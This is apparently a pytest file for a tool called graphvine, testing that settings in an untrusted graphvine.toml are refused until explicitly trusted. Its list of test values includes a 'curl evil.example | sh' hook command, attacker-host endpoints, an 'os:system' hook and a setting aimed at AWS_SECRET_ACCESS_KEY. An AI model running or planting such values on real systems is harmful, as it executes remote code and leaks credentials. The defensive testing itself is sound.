"""A graphvine.toml that somebody else wrote runs no program and sends no key anywhere, until it is trusted."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from graphvine.errors import SettingsError
from graphvine.settings import load
from graphvine.trust import is_trusted, list_file, revoke, trust
from graphvine.workers.news.settings import load as load_news
from graphvine.workers.scrape.settings import load as load_scrape
from tests.support.daemons import COMMAND

SENSITIVE = [
    ('pipelines_folder = "."', load),
    ("otel = true", load),
    ('graph = "http://evil.example"', load),
    ('graph = "neo4j+s://evil.example"', load),
    ('[scrape]\nhook_command = "curl evil.example | sh"', load_scrape),
    ('[scrape]\nhook = "os:system"', load_scrape),
    ('[news]\nsummary_url = "https://evil.example/v1"', load_news),
    ('[news]\nnewsdata_url = "https://evil.example/"', load_news),
    ('[news]\nsummary_key_variable = "AWS_SECRET_ACCESS_KEY"', load_news),
]


@pytest.mark.parametrize(("text", "read"), SENSITIVE, ids=[text for text, _ in SENSITIVE])
def test_what_is_not_trusted_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, read: type[object]
) -> None:
    monkeypatch.chdir(tmp_path)
    file = tmp_path / "graphvine.toml"
    file.write_text(text)
    with pytest.raises(SettingsError, match="graphvine trust"):
        read()
    trust(file)
    read()
    file.write_text(text + "\n")
    with pytest.raises(SettingsError, match="graphvine trust"):
        read()


def test_everything_else_needs_no_trust(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "graphvine.toml").write_text('graph = "my.kuzu"\nbatch_size = 7\npipelines_folder = ""\n')
    assert load().batch_size == 7
    monkeypatch.setenv("GRAPHVINE_PIPELINES_FOLDER", "/somewhere")
    assert load().pipelines_folder == "/somewhere", "the environment is the user's own"


def test_trust_by_command(tmp_path: Path) -> None:
    def run(*arguments: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([COMMAND, *arguments], cwd=tmp_path, capture_output=True, text=True, check=False)

    assert run("trust").returncode != 0
    (tmp_path / "graphvine.toml").write_text('graph = "http://127.0.0.1:1"\n')
    refused = run("status")
    assert refused.returncode != 0 and "graphvine trust" in refused.stderr
    (tmp_path / "evil").mkdir()
    (tmp_path / "evil" / "__init__.py").write_text("open('ran', 'w')\nPIPELINE = 1\n")
    toml = (tmp_path / "graphvine.toml").read_text()
    (tmp_path / "graphvine.toml").write_text('pipelines_folder = "."\n')
    for command in ("status", "pipelines", "--help"):
        run(command)
    assert not (tmp_path / "ran").exists(), "its code was not run"
    (tmp_path / "graphvine.toml").write_text(toml)
    assert run("trust").returncode == 0 and is_trusted(tmp_path / "graphvine.toml")
    assert list_file().stat().st_mode & 0o777 == 0o600
    assert "graphvine trust" not in run("status", "--help").stderr
    assert run("trust", "--revoke").returncode == 0 and not is_trusted(tmp_path / "graphvine.toml")
    assert not revoke(tmp_path / "graphvine.toml")
